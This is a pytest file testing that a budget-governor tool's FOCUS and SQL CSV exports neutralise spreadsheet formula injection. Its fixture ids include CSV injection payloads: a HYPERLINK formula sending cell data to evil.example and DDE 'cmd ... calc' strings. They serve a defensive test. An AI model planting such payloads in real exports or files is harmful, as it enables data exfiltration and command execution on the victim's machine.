"""No CSV the project writes starts a spreadsheet formula (``csv_safety``).

Hostile caller ids go through a real governor, a real file ledger and the
real ``mcpbg export focus`` / ``mcpbg sql --csv``; the FOCUS file still passes
the official focus-validator, numbers (a negative cost too) stay numbers, and
Parquet keeps the ids as they were.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mcp_budget_governor import Context, Governor, Limit, MemoryBackend, Policy, Unit, Window
from mcp_budget_governor.cli import main
from mcp_budget_governor.csv_safety import FORMULA_STARTS, neutralise, neutralise_sql
from mcp_budget_governor.focus import FOCUS_1_2, Kind
from mcp_budget_governor.focus_checks import check_row
from mcp_budget_governor.prices import PriceTable
from mcp_budget_governor.producers.file_ledger import FileLedger
from testing.focus_validator_env import validate

USER = '=HYPERLINK("http://evil.example/?d="&A1,"invoice")'
TENANT = "+cmd|' /C calc'!A0"
TOOL = "@SUM(1+1)*cmd|' /C calc'!A0"
MODEL = "-2+3+cmd|' /C calc'!A0"
PRICES = PriceTable().with_price(MODEL, 3, 15)
#: Every cell that starts with one of these, read back as text, would be a formula.
FORMULA = tuple(FORMULA_STARTS)
NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")
_CON = duckdb.connect()


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a1 ") | st.characters(codec="utf-8"), max_size=8))
@settings(max_examples=300, deadline=None)
def test_the_sql_rule_is_the_python_rule(text: str) -> None:
    (got,) = _CON.execute(f"SELECT {neutralise_sql('$1')}", [text]).fetchone() or (None,)
    assert got == neutralise(text)
    assert not neutralise(text).startswith(FORMULA)
    assert neutralise(text).removeprefix("'") in (text, text.removeprefix("'"))


def test_null_stays_null() -> None:
    assert duckdb.connect().execute(f"SELECT {neutralise_sql('NULL')}").fetchone() == (None,)


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Calls by hostile ids at 10:xx; at 11:05 a reservation settles below its estimate.

    The settlement is a negative charge in the 11:00 hour: the export's one
    negative BilledCost row, which must stay a number.
    """
    folder = tmp_path_factory.mktemp("hostile") / "ledger"

    async def write() -> None:
        now = [datetime(2026, 11, 3, 10, 15, tzinfo=UTC).timestamp()]
        gov = Governor(
            Policy.of(Limit("spend", cap=10**12, window=Window.MONTH, unit=Unit.USD_MICROS)),
            MemoryBackend(),
            ledger=FileLedger(folder),
            prices=PRICES,
            clock=lambda: now[0],
        )
        who = Context(user=USER, tenant=TENANT, tool=TOOL)
        async with gov:
            await gov.meter_tokens(
                "spend", MODEL, input_tokens=20_000, output_tokens=1_000, ctx=who
            )
            await gov.meter("spend", 70_000, who)
            async with gov.reserved("spend", 500_000, who) as held:
                now[0] += 3000  # the work ends in the next hour
                held.actual = 200_000

    asyncio.run(write())
    return folder


def _export(ledger: Path, out: Path) -> None:
    module = out.parent / "hostile_prices.py"
    module.write_text(
        "from mcp_budget_governor.prices import PriceTable\n"
        f"TABLE = PriceTable().with_price({MODEL!r}, 3, 15)\n"
    )
    import sys

    sys.path.insert(0, str(out.parent))
    try:
        code = main(
            [
                *("export", "focus", "--period", "2026-11", "--ledger-dir", str(ledger)),
                *("--out", str(out), "--quiet", "--prices", "hostile_prices:TABLE"),
                "--billing-account=-1+1",
                *("--provider", "@acme"),
            ]
        )
    finally:
        sys.path.remove(str(out.parent))
    assert code == 0


def test_no_focus_csv_cell_starts_a_formula(hostile_ledger: Path, tmp_path: Path) -> None:
    out = tmp_path / "focus.csv"
    _export(hostile_ledger, out)
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) >= 3
    for row in rows:
        for name, value in row.items():
            kind = FOCUS_1_2.column(name).kind
            if kind is Kind.STRING:
                assert not value.startswith(FORMULA), (name, value)
            elif kind is Kind.DECIMAL:
                assert NUMBER.match(value), (name, value)  # a number, never quoted
        assert check_row(row) == []
    by_meter = {r["x_Meter"]: r for r in rows if r["ChargePeriodStart"].startswith("2026-11-03T10")}
    tokens = by_meter["input"]
    assert tokens["x_UserId"] == "'" + USER and tokens["SubAccountId"] == "'" + TENANT
    assert tokens["x_ToolName"] == "'" + TOOL and tokens["x_ModelId"] == "'" + MODEL
    assert tokens["SkuId"].startswith("'" + MODEL) and tokens["ChargeDescription"][0] == "'"
    assert tokens["BillingAccountId"] == "'-1+1" and tokens["ProviderName"] == "'@acme"
    # The settlement's hour: a negative cost, written as the number it is.
    settled = [r for r in rows if r["ChargePeriodStart"].startswith("2026-11-03T11")]
    assert [r["BilledCost"] for r in settled] == ["-0.3"]


def test_the_hostile_focus_csv_passes_focus_validator(hostile_ledger: Path, tmp_path: Path) -> None:
    out = tmp_path / "focus.csv"
    _export(hostile_ledger, out)
    report = validate(out)
    assert not sorted(report.real_failures), report.real_failures
    assert len(report.passed) > 150


def test_parquet_keeps_the_ids_as_they_are(hostile_ledger: Path, tmp_path: Path) -> None:
    out = tmp_path / "focus.parquet"
    _export(hostile_ledger, out)
    table = pq.read_table(out).to_pylist()
    assert {r["x_UserId"] for r in table} == {USER}
    assert {r["SubAccountId"] for r in table} == {TENANT}
    assert min(r["BilledCost"] for r in table) < 0


def test_sql_csv_neutralises_strings_and_keeps_numbers(
    hostile_ledger: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    query = (
        'SELECT "user", tenant, tool, -5 AS n, CAST(-0.5 AS DECIMAL(4, 2)) AS d, '
        "'-5' AS s, usd_micros AS \"=x\" FROM costs ORDER BY usd_micros"
    )
    code = main(["sql", query, "--csv", "--ledger-dir", str(hostile_ledger)])
    out = capsys.readouterr().out
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["user", "tenant", "tool", "n", "d", "s", "'=x"]
    assert len(rows) > 2
    for row in rows[1:]:
        assert row[:3] == ["'" + USER, "'" + TENANT, "'" + TOOL]
        assert row[3:6] == ["-5", "-0.50", "'-5"]
        assert NUMBER.match(row[6]), row
    assert rows[1][6].startswith("-")  # the settlement: a negative amount stays a number
    assert not any(
        cell.startswith(FORMULA) for row in rows for cell in row if not NUMBER.match(cell)
    )
